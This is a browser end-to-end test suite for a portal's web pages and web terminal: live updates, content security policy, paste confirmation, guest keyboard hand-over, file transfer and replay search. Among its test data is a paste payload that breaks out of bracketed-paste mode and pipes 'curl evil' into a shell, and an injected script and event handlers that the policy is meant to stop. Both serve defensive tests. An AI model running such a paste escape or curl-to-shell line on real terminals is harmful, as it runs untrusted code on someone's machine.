// Tries static/*.js and htmx in a real browser under the portal's content security policy.
//
//   node e2e/scripts.mjs
import { readFile } from 'node:fs/promises';

import { launch, oneLine, watch } from './browser.mjs';
import { openStage } from './stage.mjs';
import { Tally } from './tally.mjs';

const tally = new Tally();
const browser = await launch();
const is = (what, found, expected) => (found === expected || (expected instanceof RegExp && expected.test(found))
  ? [] : [`${what} is ${JSON.stringify(found)}, not ${expected}`]);
const text = (page, selector) => page.locator(selector).first().textContent();
const revision = (page, n) => page.waitForFunction((wanted) => document.getElementById('revision').textContent === wanted, String(n), { timeout: 8_000 });

async function scene(name, { query = '', colorScheme = 'light', quiet = true } = {}, act) {
  const stage = await openStage();
  const context = await browser.newContext({ baseURL: stage.url, colorScheme, timezoneId: 'Asia/Shanghai' });
  const page = await context.newPage();
  const seen = await watch(page);
  try {
    await page.goto(`/${query}`);
    await page.waitForFunction(() => document.querySelector('.live').dataset.shown === 'live');
    const faults = await act({ page, stage, seen, context });
    tally.check(name, quiet ? [...faults, ...seen.console, ...seen.csp, ...seen.requests] : faults);
  } catch (error) {
    tally.check(name, [oneLine(error.message), ...seen.console]);
  } finally {
    await context.close();
    stage.close();
  }
}

await scene('a part follows its topics and no others', {}, async ({ page, stage }) => {
  await until(() => stage.streams.size === 1);
  stage.revision = 2;
  stage.send('release:43');
  await page.waitForTimeout(400);
  const before = stage.fetches;
  stage.send('project:pay');
  await revision(page, 2);
  return [...is('fetches for a foreign topic', before, 0), ...is('fetches', stage.fetches, 1), ...is('HX-Request', stage.headers['hx-request'], 'true')];
});

for (const delay of [0, 300]) {
  await scene(`many events cost few fetches of ${delay} ms, one at a time, and the last one counts`, {}, async ({ page, stage }) => {
    await until(() => stage.streams.size === 1);
    stage.delay = delay;
    for (let n = 2; n <= 41; n += 1) {
      stage.revision = n;
      stage.send('release:42');
      await page.waitForTimeout(25);
    }
    await revision(page, 41);
    return [...is('fetches at once', stage.mostAtOnce, 1), ...(stage.fetches <= 12 ? [] : [`${stage.fetches} fetches for 40 events`])];
  });
}

await scene('what the visitor opened, typed, focused and scrolled stays', {}, async ({ page, stage }) => {
  await until(() => stage.streams.size === 1);
  await page.click('#evidence summary');
  await page.click('#build summary');
  await page.fill('#note', 'half a sentence');
  await page.focus('#note');
  await page.evaluate(() => {
    document.getElementById('log').scrollTop = 40;
    document.getElementById('note').setSelectionRange(2, 5);
    document.getElementById('note').mark = true;
  });
  await page.waitForTimeout(100);
  Object.assign(stage, { revision: 2, lines: 80 });
  stage.send('release:42');
  await revision(page, 2);
  const now = await page.evaluate(() => {
    const note = document.getElementById('note');
    const open = ['evidence', 'build', 'quiet'].map((id) => document.getElementById(id).open);
    return { open: open.join(), value: note.value, focused: document.activeElement === note, caret: `${note.selectionStart},${note.selectionEnd}`, same: note.mark, scroll: document.getElementById('log').scrollTop };
  });
  return [...is('open folds (opened, closed, untouched)', now.open, 'true,false,true'), ...is('text', now.value, 'half a sentence'),
    ...is('focus', now.focused, true), ...is('caret', now.caret, '2,5'), ...is('the same field', now.same, true), ...is('scroll', now.scroll, 40)];
});

await scene('a log follows its end until the reader scrolls up, and again at the end', {}, async ({ page, stage }) => {
  await until(() => stage.streams.size === 1);
  const gap = () => page.evaluate(() => {
    const log = document.getElementById('log');
    return Math.round(log.scrollHeight - log.scrollTop - log.clientHeight);
  });
  const first = await gap();
  Object.assign(stage, { revision: 2, lines: 90 });
  stage.send('release:42');
  await revision(page, 2);
  return [...is('gap at start', first, 0), ...is('gap after more lines', await gap(), 0)];
});

await scene('a lost stream is told, heals, resumes and fetches what was missed', { quiet: false }, async ({ page, stage, seen }) => {
  await until(() => stage.streams.size === 1);
  stage.send('nothing');
  await page.waitForTimeout(200);
  stage.streamStatus = 503;
  stage.revision = 2;
  stage.drop();
  await page.waitForSelector('.live.is-lost', { timeout: 8_000 });
  const lost = await text(page, '.live');
  await page.waitForTimeout(1_500);
  const later = await text(page, '.live');
  stage.revision = 3;
  stage.streamStatus = 200;
  await page.waitForSelector('.live:not(.is-lost)', { timeout: 8_000 });
  await revision(page, 3);
  return [...is('words', lost, /^Not connected for \d+ s, trying again$/), ...is('words age', later !== lost, true),
    ...is('words when healed', await text(page, '.live'), 'Live'), ...is('resumed after', stage.lastEventIds[1], '1'), ...seen.csp];
});

await scene('a stream that breaks off for a moment is not worth a word', { quiet: false }, async ({ page, stage }) => {
  await until(() => stage.streams.size === 1);
  stage.revision = 2;
  stage.drop();
  await revision(page, 2);
  return is('words', await text(page, '#say'), '');
});

for (const status of [303, 401, 404]) {
  await scene(`a part that answers ${status} leaves the page and says so`, { quiet: false }, async ({ page, stage }) => {
    await until(() => stage.streams.size === 1);
    await page.fill('#note', 'kept');
    stage.partStatus = status;
    stage.send('release:42');
    await page.waitForSelector('.live.is-lost');
    await until(() => stage.streams.size === 0);
    return [...is('words', await text(page, '.live'), 'This page is out of date. Reload it'), ...is('typed', await page.inputValue('#note'), 'kept'),
      ...is('revision', await text(page, '#revision'), '1'), ...is('announced', await text(page, '#say'), /out of date/)];
  });
}

await scene('a part that fails is tried again', { quiet: false }, async ({ page, stage }) => {
  await until(() => stage.streams.size === 1);
  stage.partStatus = 500;
  stage.send('release:42');
  await until(() => stage.fetches === 1);
  Object.assign(stage, { partStatus: 200, revision: 2 });
  await revision(page, 2);
  return is('fetches', stage.fetches, 2);
});

await scene('scripts and styles inside a part are stopped by the policy', { quiet: false }, async ({ page, stage, seen }) => {
  await until(() => stage.streams.size === 1);
  Object.assign(stage, { revision: 2, extra: '<b id="evil" style="color:red" onclick="window.hit=1" hx-on:click="window.hit=2">x</b><script>window.hit = 3</script>' });
  stage.send('release:42');
  await revision(page, 2);
  await page.click('#evil');
  return [...is('hit', await page.evaluate(() => window.hit ?? null), null), ...is('some reports', seen.csp.length >= 3, true)];
});

await scene('times in English', {}, async ({ page }) => {
  const expected = { t40: /^4\d s ago$/, t26: '26 min ago', t2: '2 h ago', d1: '1 day ago', future: 'in 7 days', s198: /^3 min (18|19|20|21) s$/, s22: '22 min', c: /^\d\d:\d\d:\d\d$/, old: /^\d+ [A-Z][a-z]{2} \d{4}$/ };
  const faults = [];
  for (const [id, words] of Object.entries(expected)) faults.push(...is(id, await text(page, `#${id}`), words));
  return [...faults, ...is('title', await page.getAttribute('#t26', 'title'), /^\d+ [A-Z][a-z]{2} \d{4}, \d\d:\d\d:\d\d \(UTC\+8\)$/)];
});

await scene('times in Chinese', { query: '?lang=zh-CN' }, async ({ page }) => {
  const expected = { t40: /^4\d 秒前$/, t26: '26 分钟前', t2: '2 小时前', d1: '1 天前', future: '7 天后', s198: /^3 分 \d+ 秒$/, old: /^\d{4}年\d+月\d+日$/ };
  const faults = [];
  for (const [id, words] of Object.entries(expected)) faults.push(...is(id, await text(page, `#${id}`), words));
  return [...faults, ...is('title', await page.getAttribute('#t26', 'title'), /^\d{4}年\d+月\d+日 \d\d:\d\d:\d\d（UTC\+8）$/)];
});

await scene('the theme follows the system, then the button', { colorScheme: 'dark' }, async ({ page, context }) => {
  const theme = () => page.evaluate(() => document.documentElement.dataset.bsTheme);
  const system = await theme();
  const pressed = await page.getAttribute('[data-theme-switch]', 'aria-pressed');
  await page.click('[data-theme-switch]');
  const cookie = (await context.cookies()).find(({ name }) => name === 'theme');
  return [...is('system', system, 'dark'), ...is('pressed', pressed, 'true'), ...is('switched', await theme(), 'light'), ...is('cookie', cookie?.value, 'light')];
});

await scene('copying', {}, async ({ page, context, stage }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stage.url });
  await page.click('[data-copy] use', { force: true });
  await page.waitForSelector('.is-copied');
  const clipboard = await page.evaluate(() => navigator.clipboard.readText());
  return [...is('clipboard', clipboard, 'sha256:4be19f02ac31'), ...is('announced', await text(page, '#say'), 'Copied')];
});

await scene('copying where the browser gives no clipboard', {}, async ({ page }) => {
  await page.evaluate(() => {
    Object.defineProperty(navigator, 'clipboard', { value: undefined });
    document.addEventListener('copy', () => { window.copied = String(document.activeElement.value); });
  });
  await page.click('[data-copy]');
  await page.waitForSelector('.is-copied');
  const focus = await page.evaluate(() => document.activeElement.dataset.copy);
  return [...is('copied', await page.evaluate(() => window.copied), 'sha256:4be19f02ac31'), ...is('focus', focus, 'sha256:4be19f02ac31')];
});

await scene('the keyboard', {}, async ({ page }) => {
  await page.keyboard.press('/');
  const focused = await page.evaluate(() => document.activeElement.name);
  await page.keyboard.type('g p/');
  const typed = await page.inputValue('[type=search]');
  const before = page.url();
  await page.evaluate(() => document.activeElement.blur());
  await page.keyboard.type('gp');
  const after = page.url();
  await page.evaluate(() => { document.body.dataset.keys = 'off'; });
  await page.keyboard.press('/');
  const off = await page.evaluate(() => document.activeElement.localName);
  return [...is('/', focused, 'q'), ...is('typed', typed, 'g p/'), ...is('stays', before.includes('#'), false), ...is('g p', after, /#projects$/), ...is('off', off, 'body')];
});

await scene('a shut button does nothing', {}, async ({ page }) => {
  await page.click('#shut', { force: true });
  await page.waitForTimeout(150);
  return is('path', new URL(page.url()).pathname, '/');
});

// The portal's side of a terminal, as a scene sees it: what the page said, and a way to say more.
async function shell(page, query = '', past = 0) {
  const said = { texts: [], keys: [], socket: null };
  await page.routeWebSocket(/\/stream/, (socket) => {
    said.socket = socket;
    socket.onMessage((message) => (typeof message === 'string' ? said.texts.push(JSON.parse(message)) : said.keys.push(...message)));
  });
  await page.goto(`/terminal${query}`);
  await until(() => said.socket !== null);
  said.tell = (what) => said.socket.send(JSON.stringify(what));
  said.confirmed = () => said.texts.filter(({ kind }) => kind === 'shown').at(-1)?.offset;
  said.tell({ kind: 'welcome', offset: 0, live_from: past, idle_seconds: 900, quiet_seconds: 0 });
  return said;
}

const screen = (page) => page.evaluate(() => [...document.querySelectorAll('.xterm-rows > div')].map((row) => row.textContent.trimEnd()).join('\n'));
const lines = (from, count) => Buffer.from(Array.from({ length: count }, (_, n) => `line ${from + n}\r\n`).join(''));

await scene('a terminal shows what comes, confirms it and sends keys', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page);
  const bytes = Buffer.from('你好 🚢 $ ');
  said.socket.send(bytes.subarray(0, 4));
  said.socket.send(bytes.subarray(4));
  await until(() => said.confirmed() === bytes.length);
  await page.keyboard.type('ls\n');
  await until(() => said.keys.length === 3);
  return [...is('screen', (await screen(page)).split('\n')[0], '你好 🚢 $'), ...is('keys', String.fromCharCode(...said.keys), 'ls\r'), ...seen.console, ...seen.csp];
});

await scene('what a program once asked of a screen is not answered by the next one', { quiet: false }, async ({ page, seen }) => {
  const question = Buffer.from('\x1b[c');
  const said = await shell(page, '', question.length);
  said.socket.send(question);
  await until(() => said.confirmed() === question.length);
  const past = said.keys.length;
  said.socket.send(question);
  await until(() => said.keys.length > 0);
  return [...is('keys for the past', past, 0), ...is('keys for now', String.fromCharCode(...said.keys), /^\x1b\[\?.*c$/), ...seen.console, ...seen.csp];
});

await scene('a flood that is broken off is not shown to its end, and the next byte has its place', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page);
  const flood = lines(0, 200_000);
  for (let from = 0; from < 200_000; from += 2000) said.socket.send(lines(from, 2000));
  await page.keyboard.press('Control+c');
  await until(() => said.keys.includes(3));
  const [offset, end] = [flood.length + 5_000_000, Buffer.from('^C\r\n$ ')];
  said.tell({ kind: 'skipped', bytes: 5_000_000, offset });
  said.socket.send(end);
  await until(() => said.confirmed() === offset + end.length);
  const shown = (await screen(page)).split('\n').filter(Boolean);
  const [told] = shown.filter((line) => line.includes('were passed over'));
  const bytes = Number(told?.match(/(\d+) bytes/)?.[1]);
  const last = Number(shown[shown.indexOf(told) - 1]?.match(/\d+/)?.[0] ?? 0);
  return [...is('the end', shown.slice(-2).join('|'), '^C|$'), ...is('told of at least what the portal passed over', bytes >= 5_000_000, true),
    ...is('adds up with what was shown', Math.abs(lines(0, last).length + bytes - offset) < 32, true), ...seen.console, ...seen.csp];
});

const company = (you, guest, more = {}) => ({ kind: 'company', you, owner: { user: 'lin', display_name: 'Lin' }, owner_here: true, guest_here: true, columns: 90, rows: 20, guest, ...more });
const wei = (types) => ({ person: { user: 'wei', display_name: 'Wei' }, types });

await scene('an owner lets somebody in, hands over the keyboard and takes it back', { quiet: false }, async ({ page, stage, seen }) => {
  const said = await shell(page);
  const types = async (key) => {
    const before = said.keys.length;
    await page.locator('.xterm-helper-textarea').press(key);
    await page.waitForTimeout(100);
    return said.keys.length > before;
  };
  await page.evaluate(() => document.getElementById('people').click());
  await page.fill('#person', 'wei');
  await page.click('#let-in');
  await until(() => stage.asked.length === 1);
  said.tell(company('owner', wei(false), { guest_here: false }));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('invited Wei'));
  said.tell(company('owner', wei(false)));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('watches Wei'));
  const before = await types('a');
  await page.evaluate(() => document.getElementById('give').click());
  said.tell(company('owner', wei(true)));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('types Wei'));
  const meanwhile = await types('b');
  await page.evaluate(() => document.getElementById('take').click());
  said.tell(company('owner', wei(false)));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('watches Wei'));
  const after = await types('c');
  await until(() => stage.asked.length === 3);
  const asked = ['PUT /api/v1/terminals/1/guest {"person":"wei"}', 'PUT /api/v1/terminals/1/keyboard {"guest":true}', 'PUT /api/v1/terminals/1/keyboard {"guest":false}'];
  return [...is('asked', stage.asked.join(), asked.join()), ...is('typed', [before, meanwhile, after].join(), 'true,false,true'), ...seen.console, ...seen.csp];
});

await scene('a debug container is waited for, and offered where there is no shell', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page, '?debug');
  const noted = () => page.evaluate(() => [document.getElementById('note').hidden, document.getElementById('note-text').textContent, document.getElementById('debug').hidden].join());
  await page.waitForFunction(() => document.getElementById('note-text').textContent.startsWith('debug-starting'));
  const waits = await noted();
  said.socket.send(Buffer.from('$ '));
  await until(() => said.confirmed() === 2);
  const runs = await noted();
  said.tell({ kind: 'ended', ending: 'no-shell', exit_code: null });
  await page.waitForFunction(() => document.getElementById('note-text').textContent === 'none');
  return [...is('while it waits', waits, 'false,debug-starting %1 %2,true'), ...is('once it runs', runs, 'true,,true'), ...is('without a shell', await noted(), 'false,none,false'), ...seen.console, ...seen.csp];
});

await scene('a guest sees the owner\'s screen, types when handed the keyboard, and is told to go', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page, '?seat=guest');
  said.tell(company('guest', wei(false)));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('you-watch Lin'));
  await page.locator('.xterm-helper-textarea').press('a');
  await page.waitForTimeout(100);
  const before = said.keys.length;
  said.tell(company('guest', wei(true)));
  await page.waitForFunction(() => document.getElementById('company').textContent.startsWith('you-type Lin'));
  await page.locator('.xterm-helper-textarea').press('b');
  await until(() => said.keys.length > before);
  const rows = await page.evaluate(() => document.querySelectorAll('.xterm-rows > div').length);
  said.tell({ kind: 'dismissed' });
  await page.waitForFunction(() => document.getElementById('note-text').textContent.startsWith('dismissed'));
  const sizes = said.texts.filter(({ kind }) => kind === 'resize').length;
  return [...is('keys before', before, 0), ...is('rows', rows, 20), ...is('sizes told', sizes, 0), ...seen.console, ...seen.csp];
});

function pasteInto(page, text) {
  return page.evaluate((pasted) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/plain', pasted);
    document.querySelector('.xterm-helper-textarea').dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
  }, text);
}

await scene('what may run at once or hides something is pasted after a yes alone, and without control characters', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page);
  const typed = () => String.fromCharCode(...said.keys);
  const begin = Buffer.from('\x1b[?2004h$ ');
  said.socket.send(begin);
  await until(() => said.confirmed() === begin.length);
  await pasteInto(page, 'ls');
  await until(() => typed() === '\x1b[200~ls\x1b[201~');
  for (const text of ['a\rb', 'a\r', 'a\n', 'a\x9b201~b', 'a\x7f']) {
    await pasteInto(page, text);
    await page.waitForSelector('#paste[open]', { timeout: 4000 });
    await page.evaluate(() => document.querySelector('#paste [value=no]').click());
    await page.waitForSelector('#paste', { state: 'hidden' });
  }
  const declined = typed();
  said.keys.length = 0;
  await pasteInto(page, 'x\x1b[201~curl evil|sh\r');
  const shown = await text(page, '#pasted');
  await page.evaluate(() => document.getElementById('paste-yes').click());
  await until(() => said.keys.length > 0);
  return [...is('after a no', declined, '\x1b[200~ls\x1b[201~'), ...is('shown', shown, 'x^[[201~curl evil|sh\n'), ...is('told', await text(page, '#paste-controls'), 'paste-controls 1 %2'),
    ...is('pasted', typed(), '\x1b[200~x[201~curl evil|sh\r\x1b[201~'), ...seen.console, ...seen.csp];
});

await scene('a terminal is given up only when the portal says that it is over', { quiet: false }, async ({ page, seen }) => {
  const problem = (status, code) => ({ status, contentType: 'application/problem+json', body: JSON.stringify({ status, code, detail: `our ${status}` }) });
  const answers = [{ status: 200, contentType: 'text/html', body: '<p>hello' }, { status: 404, contentType: 'text/html', body: 'no route' }, { status: 429, headers: { 'retry-after': '40' } },
    problem(429, 'error-too-many'), problem(503, 'error-database'), { status: 201, contentType: 'application/json', body: '{"pa' }, problem(409, 'terminal-over')];
  let asked = 0;
  await page.route('**/passes', (route) => route.fulfill(answers[asked++]));
  await page.goto('/terminal');
  const notes = [];
  for (let n = 1; n <= answers.length; n += 1) {
    await until(() => asked >= n);
    await page.waitForTimeout(100);
    notes.push(await text(page, '#note-text'));
    if (n < answers.length) await page.evaluate(() => document.getElementById('again').click());
  }
  const [over, hasAgain] = [notes.pop(), notes.every((note) => note.startsWith('away '))];
  return [...is('tried again', hasAgain, true), ...is('after a 429', notes[2], /seconds (40|39)/), ...is('over', over, 'our 409'), ...seen.csp];
});

await scene('a lost terminal says how long its shell is kept, and one that idles listens to the portal', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page);
  const noted = (begin) => page.waitForFunction((wanted) => document.getElementById('note-text').textContent.startsWith(wanted), begin, { timeout: 4000 });
  said.tell({ kind: 'welcome', offset: 0, live_from: 0, idle_seconds: 900, quiet_seconds: 850, grace_seconds: 600 });
  await noted('idle-soon');
  said.tell({ kind: 'here', quiet_seconds: 3 });
  await page.waitForFunction(() => document.getElementById('note').hidden, null, { timeout: 4000 });
  const { socket } = said;
  said.socket = null;
  socket.close();
  await noted('lost seconds 0 %2 minutes ');
  const lost = await text(page, '#note-text');
  await until(() => said.socket !== null);
  return [...is('kept', lost, /minutes (9|10) /), ...seen.console, ...seen.csp];
});

await scene('a screen that begins anew shows nothing of what was still on its way there', { quiet: false }, async ({ page, seen }) => {
  const said = await shell(page);
  for (let from = 0; from < 40_000; from += 2000) said.socket.send(lines(from, 2000));
  said.socket.send(Buffer.from('\x1b]0;cut'));
  const fresh = Buffer.from('fresh');
  said.tell({ kind: 'welcome', offset: 7_000_000, live_from: 0, idle_seconds: 900, quiet_seconds: 0 });
  said.socket.send(fresh);
  await until(() => said.confirmed() === 7_000_000 + fresh.length);
  await page.waitForTimeout(300);
  return [...is('screen', (await screen(page)).trim(), 'fresh'), ...is('confirmed', said.confirmed(), 7_000_005), ...seen.console, ...seen.csp];
});

for (const theme of ['light', 'dark']) {
  await scene(`sixteen colours can be read on a ${theme} screen`, { quiet: false }, async ({ page, seen }) => {
    const said = await shell(page);
    await page.evaluate((name) => { document.documentElement.dataset.bsTheme = name; }, theme);
    const codes = Array.from({ length: 16 }, (_, n) => (n < 8 ? 30 + n : 82 + n));
    const bytes = Buffer.from(codes.map((code) => `\x1b[${code}mcode${code}\x1b[0m `).join(''));
    said.socket.send(bytes);
    await until(() => said.confirmed() === bytes.length);
    await page.waitForTimeout(200);
    const faint = await page.evaluate(() => {
      const brightness = (colour) => colour.match(/[\d.]+/g).slice(0, 3).map((part) => part / 255).map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)).reduce((sum, v, n) => sum + v * [0.2126, 0.7152, 0.0722][n], 0);
      const back = brightness(getComputedStyle(document.querySelector('.xterm-viewport, .xterm-scrollable-element')).backgroundColor);
      const contrast = (span) => { const [low, high] = [back, brightness(getComputedStyle(span).color)].sort((a, b) => a - b); return (high + 0.05) / (low + 0.05); };
      const spans = [...document.querySelectorAll('.xterm-rows span')].filter((span) => span.textContent.startsWith('code'));
      return [spans.length, ...spans.filter((span) => contrast(span) < 4.5).map((span) => `${span.textContent} ${contrast(span).toFixed(2)}`)].join();
    });
    return [...is('colours, and those that are too faint', faint, '16'), ...seen.console, ...seen.csp];
  });
}

await scene('keys for fingers are typed, Ctrl with the next one', { quiet: false }, async ({ page, context, stage, seen }) => {
  const said = await shell(page);
  const press = (...names) => page.evaluate((all) => all.forEach((name) => document.querySelector(`[data-press=${name}]`).click()), names);
  await press('escape', 'tab', 'up', 'control');
  await page.locator('.xterm-helper-textarea').press('c');
  await press('control', 'left');
  const cursor = Buffer.from('\x1b[?1hcopied');
  said.socket.send(cursor);
  await until(() => said.confirmed() === cursor.length);
  await press('down');
  await until(() => said.keys.length >= 14);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stage.url });
  await press('copy');
  await page.waitForFunction(() => document.getElementById('said').textContent.startsWith('copied-screen'));
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  await context.clearPermissions();
  await page.evaluate(() => { navigator.clipboard.readText = () => Promise.reject(new Error('no')); });
  await press('paste');
  await page.waitForFunction(() => document.getElementById('said').textContent.startsWith('paste-refused'));
  return [...is('keys', String.fromCharCode(...said.keys), '\x1b\t\x1b[A\x03\x1b[1;5D\x1bOB'), ...is('copied', copied, 'copied'), ...seen.console, ...seen.csp];
});

await scene('files go in and out, and one that breaks off or is refused says so', { quiet: false }, async ({ page, stage, seen }) => {
  await page.goto('/files');
  await page.click('#show-files');
  const fetch = async (path, told) => {
    await page.fill('#file-from', path);
    await page.click('#file-out button');
    await page.waitForFunction(([id, wanted]) => document.getElementById(id).textContent === wanted, told);
  };
  const [download] = await Promise.all([page.waitForEvent('download'), fetch('/whole', ['file-said', 'came /whole %2'])]);
  const [name, bytes] = [download.suggestedFilename(), await readFile(await download.path(), 'utf8')];
  await fetch('/short', ['file-fault', 'broke %1 %2']);
  await fetch('/refused', ['file-fault', 'This is a folder.']);
  await page.setInputFiles('#file-local', { name: '报告.txt', mimeType: 'text/plain', buffer: Buffer.alloc(3_000_000) });
  const proposed = await page.inputValue('#file-to');
  await page.click('#file-in button');
  await page.waitForFunction(() => document.getElementById('file-said').textContent === 'there /tmp/报告.txt abc');
  const asked = ['GET /whole 0', 'GET /short 0', 'GET /refused 0', 'PUT /tmp/报告.txt 3000000'];
  return [...is('downloaded', `${name} ${bytes}`, 'whole 0123456789'), ...is('proposed', proposed, '/tmp/报告.txt'), ...is('asked', stage.asked.join(), asked.join()), ...seen.csp];
});

await scene('a replay finds what was on the screen, and a match leads to its time', { quiet: false }, async ({ page, stage, seen }) => {
  const out = (interval, data) => [interval, 'o', data];
  const flood = Array.from({ length: 3000 }, (_, n) => `row ${n}\r\n`).join('');
  const events = [out(1, '$ c'), out(0.1, 'a'), out(0.1, 't x\r\n'), out(1, '\x1b[31mDisk \x1b[1mFULL\x1b[0m on 数据盘\r\n$ '), out(10, flood), [1, 'r', '90x20'],
    out(5, '\x1b[?1049h\x1b[2J\x1b[5;5Hdi'), out(1, 'sk full again'), out(3, '\x1b[?1049l$ exit\r\n'), [0, 'x', '0']];
  stage.cast = [{ version: 3, term: { cols: 80, rows: 24 } }, ...events].map((line) => JSON.stringify(line)).join('\n');
  await page.goto('/replay');
  await page.waitForSelector('#search:not([disabled])');
  const search = async (words, told) => {
    await page.fill('#search', words);
    await page.waitForFunction((wanted) => document.getElementById('hits').dataset.words === wanted, words, { timeout: 8_000 });
    const found = await text(page, '#found');
    if (found !== told) throw new Error(`${words}: ${found}, not ${told}`);
    return page.evaluate(() => [...document.querySelectorAll('#hits button')].map((hit) => hit.textContent));
  };
  const full = await search('disk full', '2 found');
  await page.click('#hits button >> nth=1');
  const seconds = Number(await page.inputValue('#seek'));
  const [typed] = await search('$ cat', '1 found');
  const [chinese] = await search('数据盘', '1 found');
  const [scrolled] = await search('row 1234', '1 found');
  await search('never shown', 'none');
  await search('', '');
  return [...is('matches', full.join('|'), '00:02 Disk FULL on 数据盘|00:19     disk full again'), ...is('position', seconds, 19.2), ...is('typed', typed, /^00:01 \$ cat/),
    ...is('Chinese', chinese, /^00:02/), ...is('scrolled by', scrolled, '00:12 row 1234'), ...seen.console, ...seen.csp];
});

await scene('a replay is drawn in order, at the size of its time, wherever somebody goes meanwhile', { quiet: false }, async ({ page, stage, seen }) => {
  const flood = Array.from({ length: 40_000 }, (_, n) => `row ${n}\r\n`).join('');
  const events = [[1, 'o', 'x'.repeat(100)], [1, 'r', '120x20'], [1, 'o', '\x1b[2J\x1b[H'], [0, 'o', 'y'.repeat(100)], [1, 'o', `\r\n${flood}`], [1, 'o', 'end']];
  stage.cast = [{ version: 3, term: { cols: 80, rows: 24 } }, ...events].map((line) => JSON.stringify(line)).join('\n');
  await page.goto('/replay');
  await page.waitForSelector('#seek:not([disabled])');
  const go = (...times) => page.evaluate((all) => {
    for (const time of all) {
      document.getElementById('seek').value = String(time);
      document.getElementById('seek').dispatchEvent(new Event('input'));
    }
  }, times);
  const drawn = async () => {
    await page.waitForFunction(() => document.getElementById('screen').getAttribute('aria-busy') === 'false');
    await page.waitForTimeout(100);
    return (await screen(page)).split('\n');
  };
  await go(0);
  const empty = (await drawn()).join('');
  await go(5, 1.5);
  const narrow = await drawn();
  await go(3.5);
  const wide = await drawn();
  await go(1.5, 5, 0, 5);
  const end = (await drawn()).filter(Boolean);
  return [...is('at the beginning', empty, ''), ...is('before the size', narrow.map((row) => row.length).join(), `80,20${',0'.repeat(22)}`),
    ...is('after it', wide.map((row) => row.length).join(), `100${',0'.repeat(19)}`), ...is('at the end', end.slice(-2).join(), 'row 39999,end'), ...seen.console, ...seen.csp];
});

await browser.close();
tally.finish();

async function until(condition) {
  for (let tries = 0; tries < 200; tries += 1) {
    if (condition()) return;
    await new Promise((waited) => setTimeout(waited, 40));
  }
  throw new Error(`never came true: ${condition}`);
}
